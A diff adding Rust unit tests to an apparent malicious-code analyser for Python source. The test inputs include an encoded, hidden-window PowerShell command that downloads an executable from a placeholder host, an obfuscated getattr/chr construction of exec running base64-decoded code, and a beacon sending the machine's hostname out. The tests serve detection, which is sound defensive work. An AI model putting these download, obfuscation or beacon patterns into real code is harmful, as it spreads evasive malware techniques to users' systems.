@@ -252,3 +252,49 @@ fn evidence_names_both_ends() {
     assert_eq!(f.to.line, 6);
     assert_eq!(f.to.text, "exec(p)");
 }
+
+#[test]
+fn powershell_encoded_commands_are_read() {
+    // `powershell Invoke-WebRequest -Uri "http://h/a.exe" -OutFile "a.exe"` as UTF-16LE base64
+    let blob = "cABvAHcAZQByAHMAaABlAGwAbAAgAEkAbgB2AG8AawBlAC0AVwBlAGIAUgBlAHEAdQBlAHMAdAAgAC0AVQByAGkAIAAiAGgAdAB0AHAAOgAvAC8AaAAvAGEALgBlAHgAZQAiACAALQBPAHUAdABGAGkAbABlACAAIgBhAC4AZQB4AGUAIgA=";
+    let src = format!(
+        "import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand {blob}', shell=False)"
+    );
+    let a = analyse(&src);
+    let call = a
+        .calls
+        .iter()
+        .find(|c| c.sink == Sink::Process)
+        .expect("a process");
+    assert!(call.text.contains("Invoke-WebRequest"), "{}", call.text);
+    assert!(call.top_level);
+}
+
+#[test]
+fn arithmetic_and_char_picking_fold() {
+    let a = analyse(
+        "import base64\nf = getattr(__builtins__, ''.join(map(chr, [(((1 << 4) - 1) << 3) - 19, 120, 101, 99])))\nf(base64.b64decode(s))",
+    );
+    assert!(
+        a.flows
+            .iter()
+            .any(|f| f.source == Source::Decoded && f.sink == Sink::Exec),
+        "{a:?}"
+    );
+    let a = analyse(
+        "import base64\nn = 'xxexec'\ngetattr(__builtins__, n[2] + n[3] + n[-2] + n[-1])(base64.b64decode(s))",
+    );
+    assert!(a.flows.iter().any(|f| f.sink == Sink::Exec));
+}
+
+#[test]
+fn import_time_is_told_from_call_time() {
+    let a = analyse(
+        "import socket, requests\ndef beacon():\n    requests.get(u, params={'h': socket.gethostname()})\nbeacon()",
+    );
+    assert!(a.flows.iter().any(|f| f.sink == Sink::Send && f.top_level));
+    let a = analyse(
+        "import socket, requests\ndef beacon():\n    requests.get(u, params={'h': socket.gethostname()})",
+    );
+    assert!(a.flows.iter().all(|f| !f.top_level));
+}
